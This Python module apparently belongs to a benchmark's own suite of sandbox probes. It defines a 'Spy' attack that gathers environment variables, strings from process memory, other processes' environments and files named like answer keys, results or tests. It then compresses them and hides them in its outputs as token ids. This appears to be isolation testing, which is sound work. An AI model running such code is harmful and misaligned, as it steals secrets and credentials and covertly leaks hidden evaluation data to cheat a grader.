"""Looks wherever it can for the private text, and reports all it saw.

The report is compressed and spread over the snapshots: its bytes pass as token ids.
"""

import contextlib
import gc
import importlib
import json
import os
import socket
import sys
import zlib
from pathlib import Path

from benchmark.spec import Attack, Knowledge, Parameter, Recovery

PART = 1_000_000
DULL = ("/usr", "/proc", "/sys", "/opt", "/dev", "/lib", "/bin", "/sbin", "/lib64")
SECRETS = ("truth", "corpora", "results", "staging", "leaderboard", ".jsonl", ".git", "tests")


def strings_in_memory():
    """Every string that some object in this process holds."""
    seen = set()
    gc.unfreeze()  # the server hides what it has made from the collector, not from us
    for thing in gc.get_objects():
        for value in gc.get_referents(thing):
            if (
                isinstance(value, str)
                and 12 < len(value) < 250
                and " " in value
                and "\n" not in value
            ):
                seen.add(value)
    return seen


def attributes(root, depth=4):
    """Every attribute reachable from the observation, as text."""
    todo, seen, found = [(root, 0)], set(), []
    while todo:
        thing, level = todo.pop()
        if id(thing) in seen or level > depth:
            continue
        seen.add(id(thing))
        if isinstance(thing, str):
            found.append(thing)
        with contextlib.suppress(Exception):
            todo += [(value, level + 1) for value in vars(thing).values()]
        if isinstance(thing, dict | list | tuple | set | frozenset):
            values = thing.values() if isinstance(thing, dict) else thing
            todo += [(value, level + 1) for value in list(values)[:5000]]
    return found


def walk(base, limit=20000):
    """Names and small contents of everything below a folder that looks like a secret."""
    names, contents = [], []
    for folder, below, files in os.walk(base):
        below[:] = [name for name in below if os.path.join(folder, name) not in DULL]
        below[:] = [name for name in below if name not in ("site-packages", "lib")]
        for file in files:
            path = os.path.join(folder, file)
            if len(names) >= limit:
                return names, contents
            if any(secret in path for secret in SECRETS):
                names.append(path)
                with contextlib.suppress(OSError):
                    contents.append(Path(path).read_bytes()[:200000].decode("utf-8", "replace"))
    return names, contents


def other_processes():
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        for part in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                found.append((folder / part).read_text(errors="replace"))
    return found


def network(port):
    """Whether a server that listens outside the sandbox can be reached."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3):
            return "connected"
    except OSError as error:
        return f"none: {type(error).__name__}"


def try_import(name):
    try:
        module = importlib.import_module(name)
        return repr(module.load("cola", "private"))[:100000]
    except BaseException as error:
        return f"refused: {type(error).__name__}"


class Spy(Attack):
    uses = frozenset(Knowledge)
    name = "spy"
    parameters = {"port": Parameter(9, "where somebody listens outside the sandbox")}
    summary = "Reads every attribute it can reach, walks the disk, opens a socket."

    def recover(self, observation):
        if not hasattr(self, "left"):
            packed = zlib.compress(json.dumps(self.look(observation)).encode(), 9)
            self.left = [packed[i : i + PART] for i in range(0, len(packed), PART)]
        return Recovery([list(self.left.pop(0) if self.left else b"")])

    def look(self, observation):
        names, contents = walk("/")
        return {
            "environment": dict(os.environ),
            "arguments": sys.argv,
            "memory": sorted(strings_in_memory()),
            "attributes": attributes(observation),
            "files": names,
            "contents": contents,
            "processes": other_processes(),
            "network": network(self.settings["port"]),
            "corpus": try_import("tasks.corpora.builtin"),
        }
